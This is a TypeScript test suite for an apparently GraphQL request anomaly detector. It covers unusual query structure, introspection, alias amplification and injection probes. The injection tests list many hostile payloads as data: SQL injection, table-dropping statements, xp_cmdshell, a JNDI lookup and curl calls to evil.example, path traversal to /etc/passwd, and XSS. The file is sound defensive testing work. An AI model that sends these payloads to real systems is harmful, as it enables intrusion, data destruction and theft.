import { describe, expect, it } from 'vitest';
import { expectLinear } from '../../../support/linear-work.ts';
import { DAY, HOUR, MINUTE } from '../../../../core/domain/time.ts';
import type { Scenario } from './pattern-scenario.ts';
import { createScenario, MONDAY, teachSupportDesk, THIRD_MONDAY } from './pattern-scenario.ts';

function taught(): Scenario {
  const scenario = createScenario();
  teachSupportDesk(scenario);
  return scenario;
}

describe('unusual structure', () => {
  it.each([
    ['depth', 8, '8 levels deep; usual is 2, at most 2'],
    ['arguments', 25, '25 arguments; usual is 1, at most 1'],
    ['fields', 60, '60 different fields; usual is 2, at most 2'],
    ['queryLength', 9_000, '9,000 characters long; usual is 80, at most 80'],
    ['rootFields', 40, '40 root fields; usual is 1, at most 1'],
  ])('reports an unusual %s', (feature, value, text) => {
    const [finding] = taught().send({ at: THIRD_MONDAY, features: { [feature]: value } });
    expect(finding?.kind).toBe('unusual_structure');
    expect(finding?.reason).toBe(`the query of role support is ${text}`);
  });

  it('leaves a somewhat larger query alone', () => {
    const features = { depth: 4, fields: 8, arguments: 4, queryLength: 300, rootFields: 3 };
    expect(taught().kinds({ at: THIRD_MONDAY, features })).toEqual([]);
  });

  it('goes by what the role is used to', () => {
    const scenario = createScenario();
    for (let i = 0; i < 200; i++) scenario.send({ at: MONDAY + i * HOUR, features: { depth: 2 + (i % 8) } });
    expect(scenario.kinds({ at: MONDAY + 201 * HOUR, features: { depth: 10 } })).toEqual([]);
  });
});

describe('introspection', () => {
  const schema = {
    shape: 'schema',
    fields: ['__schema'],
    features: { introspection: true, depth: 9, queryLength: 2_000 },
  };

  it('reports a caller who never asked, in a role that never does, and no new shape beside it', () => {
    const found = taught().send({ at: THIRD_MONDAY, ...schema });
    expect(found.map(({ kind }) => kind)).toEqual(['introspection']);
    expect(found[0]?.firstSeen).toEqual({ kind: 'introspection', scope: 'graphql:support', value: '17' });
    expect(found[0]?.reason).toBe(
      'user 17 asked for the schema for the first time; role support did in 0 of 1,080 requests',
    );
  });

  it('does not hide what is asked for beside the schema, also from a caller who often asks for it', () => {
    const scenario = createScenario();
    for (let i = 0; i < 100; i++) scenario.send({ at: MONDAY + i * HOUR, ...(i % 10 === 0 ? schema : {}) });
    const found = scenario.kinds({
      ...schema,
      at: MONDAY + 101 * HOUR,
      shape: 'salaries beside the schema',
      fields: ['__schema', 'employees.salary', 'employees.hired__c'],
    });
    expect(found).toEqual(['new_shape', 'personal_data_access', 'new_field', 'unusual_structure']);
  });

  it('leaves an administrator alone who did before, and a colleague in a role that does', () => {
    const scenario = createScenario();
    for (let i = 0; i < 100; i++) {
      const request = i % 10 === 0 ? schema : {};
      expect(scenario.kinds({ at: MONDAY + i * HOUR, role: 'admin', user: '1', ...request })).toEqual([]);
    }
    expect(scenario.kinds({ at: MONDAY + 101 * HOUR, role: 'admin', user: '1', ...schema })).toEqual([]);
    expect(scenario.kinds({ at: MONDAY + 102 * HOUR, role: 'admin', user: '2', ...schema })).toEqual([]);
  });
});

describe('injection probe', () => {
  const probe = (value: string): string[] =>
    taught().kinds({ at: THIRD_MONDAY, arguments: [{ path: 'customers.where.lastName._like', value }] });

  it.each([
    "x' OR '1'='1",
    "' or 1=1 --",
    '1 UNION SELECT username, password FROM users',
    "'; DROP TABLE customers; --",
    '1; SELECT pg_sleep(10)',
    '{"$ne": null}',
    '{{7*7}}',
    '${jndi:ldap://evil.example/a}',
    '../../../../etc/passwd',
    '%2e%2e%2f%2e%2e%2fsecret',
    '<script>alert(1)</script>',
    '1 OR 1=1',
    '" or ""="',
    "' or true--",
    "'||(select version())||'",
    "'; EXEC xp_cmdshell('dir')--",
    '%27%20OR%201%3D1',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '$(curl http://x)',
    '*)(uid=*))(|(uid=*',
    'x)(|(password=*)',
    "') OR ('a'='a",
    "1' or 'x' like 'x",
    "' || '1'='1",
    "' or 2>1 --",
    "'/**/OR/**/1=1",
    '%27+OR+%271%27=%271',
    "' AND (SELECT COUNT(*) FROM users) > 0 --",
    "a' AND 1=CONVERT(int,(SELECT @@version))--",
    "1' ORDER BY 10--",
    'extractvalue(1,concat(0x7e,version()))',
    "x'; DELETE FROM users WHERE '1'='1",
    "1' AND SLEEP(5)--",
    'if(1=1,sleep(5),0)',
    '#{7*7}',
    '<%= 7*7 %>',
    '; ls -la /',
    'report.pdf|cat /etc/hosts',
    '127.0.0.1 && curl http://evil.example',
  ])('reports %s', (value) => {
    expect(probe(value)).toEqual(['injection_probe']);
  });

  it.each([
    "O'Brien",
    'Drop Table Tennis',
    'select the union of students or 1=1?',
    'rock & roll -- live',
    "it's 5 o'clock or later",
    '{"name": "x", "price": {"gt": 5}}',
    'Hello {{name}}',
    '../images/cover.png',
    'https://music.example/a?b=1=1',
    "Guns N' Roses -- the best",
    'C:\\music\\new',
    '',
    'Tom or Jerry',
    '"Tom" or "Jerry"',
    '"yes" or true',
    '7 or 8 = 15',
    '12 and 12 months',
    'price (in $)',
    '$(document).ready',
    'costs $(100)',
    'select all records from the list, then drop them; execute the plan',
    "'select' || 'deselect'",
    '100% or 1%3',
    '50%20 off',
    '100%',
    'a <b> bold = once',
    '<a href="x">on click = y</a>',
    'f(x)(y = 2) * 3',
    '(a)(b=c)',
    "the 'basic' and premium plan (select one from the list)",
    "'basic' and (select one from the list)",
    "'a' or 2 > 1, she asked",
    'sorted by "name" order by 2 columns',
    '```js\nawait sleep(10)\n```',
    'See [the issues](../../issues/new) and ../../CONTRIBUTING.md',
    'Run `docker pull app && curl http://localhost:8080` and then sleep 10; rm -rf build',
    'name;id|price',
    'Tom & Jerry; cat food',
    'C++ /* comment */ and more',
    'use #{name} or <%= name %>',
  ])('leaves %s alone', (value) => {
    expect(probe(value)).toEqual([]);
  });

  it('finds a short probe among arguments too long to be read', () => {
    const long = Array.from({ length: 500 }, (_, i) => ({ path: `ticket.part${i}`, value: "it's ".repeat(800) }));
    const found = taught().send({
      at: THIRD_MONDAY,
      arguments: [...long, { path: 'ticket.title', value: "' or 1=1 --" }],
    });
    expect(found.map(({ reason }) => reason)).toEqual(['user 17 sent an SQL tautology in argument ticket.title']);
  });

  it.each([
    ['customers.where.firstName.$ne', null],
    ['customers.filter.$where', 'sleep'],
    ['customers.filter.$or.age.$gt', 1],
  ])('reports an operator of NoSQL as the key %s', (path, value) => {
    const [finding] = taught().send({ at: THIRD_MONDAY, arguments: [{ path, value }] });
    expect(finding?.kind).toBe('injection_probe');
    expect(finding?.reason).toContain(`sent a NoSQL operator in argument ${path}`);
  });

  it.each([
    'customers.schema.$ref',
    'customers.body.$type',
    'customers.price$',
    'customers.where.lastName._ne',
    'customers.$net',
  ])('leaves the key %s alone', (path) => {
    expect(taught().kinds({ at: THIRD_MONDAY, arguments: [{ path, value: null }] })).toEqual([]);
  });

  it.each([
    "'",
    '..',
    '{{',
    ' or ',
    'union select ',
    "' or ",
    "' and (",
    '/*',
    '../',
    'if(1,',
    '%27',
    '<a ',
    ')(a',
    '1 ',
  ])('takes time in proportion to a text of %j repeated', (text) => {
    const role = taught();
    const path = 'customers.where.lastName._like';
    expectLinear((times) => role.kinds({ at: THIRD_MONDAY, arguments: [{ path, value: text.repeat(times) }] }), 5_000);
  });
});

describe('alias amplification', () => {
  it('reports one field under many aliases', () => {
    const [finding] = taught().send({ at: THIRD_MONDAY, features: { aliases: 100, fields: 3 } });
    expect(finding?.kind).toBe('alias_amplification');
    expect(finding?.reason).toContain('3 different fields under 100 aliases; this role used at most 0');
  });

  it.each([
    ['a few aliases', { aliases: 6, fields: 2 }],
    ['many fields, each renamed', { aliases: 30, fields: 30 }],
  ])('leaves %s alone', (_, features) => {
    const scenario = createScenario();
    for (let i = 0; i < 100; i++) scenario.send({ at: MONDAY + i * HOUR, features: { fields: 20 + (i % 15) } });
    expect(scenario.kinds({ at: MONDAY + 4 * DAY + 9 * HOUR, features })).toEqual([]);
  });

  it('leaves a dashboard alone that always does it', () => {
    const scenario = createScenario();
    const features = { aliases: 60, fields: 5 };
    const kinds = Array.from({ length: 200 }, (_, i) => scenario.kinds({ at: MONDAY + i * 30 * MINUTE, features }));
    expect(kinds.flat()).toEqual([]);
  });
});
